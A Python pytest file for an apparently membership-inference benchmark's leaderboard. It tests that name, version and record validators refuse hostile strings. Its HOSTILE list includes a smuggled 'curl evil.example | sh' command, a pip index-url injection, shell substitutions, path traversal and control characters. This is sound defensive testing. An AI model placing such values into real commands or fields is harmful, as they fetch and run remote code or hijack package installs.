"""Names and versions: what has a form is checked where it is registered and where a record is read."""

from __future__ import annotations

import json
from importlib.metadata import distributions
from pathlib import Path
from typing import Any

import pytest

from mia_bench import Defense
from mia_bench.api.options import Options
from mia_bench.errors import MiaBenchError
from mia_bench.leaderboard import records
from mia_bench.names import COMPONENT, DISTRIBUTION, KEY, OPTION, RELEASE, VERSION
from mia_bench.plugins import host
from mia_bench.record import check_record
from mia_bench.registry import KINDS
from test_leaderboard import make_record

HOSTILE = (
    "",
    " ",
    "x; curl evil.example | sh",
    "x\n",
    "\nx",
    "x\x00",
    "x\x1b[31m",
    "x\u202ey",
    "-x",
    "--index-url=http://evil.example",
    "x @ http://evil.example",
    "$(x)",
    "`x`",
    "../x",
    "/tmp/x",
    "*",
    "[/x]",
    "<b>",
    "ⅷ",
    "x" * 201,
)


@pytest.mark.parametrize("form", [COMPONENT, DISTRIBUTION, RELEASE, VERSION, OPTION, KEY])
def test_nothing_but_a_name_is_a_name(form) -> None:
    assert [text for text in HOSTILE if form.matches(text)] == []
    assert not form.matches(3)
    for text in HOSTILE:
        with pytest.raises(ValueError, match="is not ") as raised:
            form.check(text)
        assert str(raised.value).isprintable()
        assert len(str(raised.value)) < 200


def test_what_is_installed_has_these_forms() -> None:
    registry = host().registry
    for kind in KINDS:
        for entry in registry.entries(kind):
            assert COMPONENT.matches(entry.name)
            assert DISTRIBUTION.matches(entry.plugin.distribution)
            if kind != "track":
                assert VERSION.matches(entry.identity()["version"])
                assert all(OPTION.matches(key) for key in entry.load().Options.model_fields)
    assert all(DISTRIBUTION.matches(d.name) and RELEASE.matches(d.version) for d in distributions())
    assert VERSION.matches("src-0123456789ab/2/1.0.dev1+local")


def changed(path: tuple[str, ...], value: Any, *, key: bool = False) -> dict[str, Any]:
    record: dict[str, Any] = json.loads(json.dumps(make_record()))
    inner = record
    for step in path[:-1]:
        inner = inner[step]
    if key:
        inner[path[-1]] = {value: 1}
    else:
        inner[path[-1]] = value
    return record


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "path",
    [
        ("key",),
        ("track", "name"),
        *((kind, part) for kind in ("defense", "prior", "attack") for part in ("name", "version")),
        *((kind, "distribution") for kind in ("defense", "prior", "attack")),
        ("attack", "options"),
    ],
    ids=".".join,
)
def test_a_record_with_another_name_is_refused_by_the_name_of_its_file(
    path: tuple[str, ...], text: str
) -> None:
    with pytest.raises(MiaBenchError) as raised:
        check_record(changed(path, text, key=path[-1] == "options"), "results/x.json")
    assert str(raised.value).startswith(f"results/x.json: {'.'.join(path)}")
    assert str(raised.value).isprintable()


def test_boards_refuse_such_a_record(tmp_path: Path) -> None:
    record = changed(("defense", "distribution"), "x; curl evil.example | sh")
    path = tmp_path / "results" / "little" / f"{record['key']}.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(record))
    with pytest.raises(MiaBenchError, match="is not the name of a Python distribution") as raised:
        records.read_file(path)
    assert str(raised.value).startswith(str(path))


@pytest.mark.parametrize("name", ["añadir", "x-y"])
def test_an_option_has_a_plain_name(name: str) -> None:
    with pytest.raises(TypeError, match="is not an option's name"):
        type(Options)("Mine", (Options,), {"__annotations__": {name: int}, name: 1, "__module__": __name__})


@pytest.mark.parametrize("version", [*HOSTILE[1:], "1.0 beta"])
def test_a_component_has_a_plain_version(version: str) -> None:
    with pytest.raises(TypeError, match="is not a version"):
        type("Mine", (Defense,), {"version": version})


def test_the_file_of_a_record_holds_what_its_text_is() -> None:
    made = make_record(reason="\ud800 \x1b[31m\n", notes={"a": "b\udcff.jpg"})
    made["defense"] |= {"options": {"text": "\ud800"}, "about": {"summary": "\ud83d x"}}
    read = check_record(json.loads(check_record(made, "x").file_text().encode()), "x")
    assert read.reason == "\ufffd \x1b[31m\n"
    assert read.notes == {"a": "b\ufffd.jpg"}
    assert read.defense.options == {"text": "\ufffd"}
    assert read.defense.about.summary == "\ufffd x"
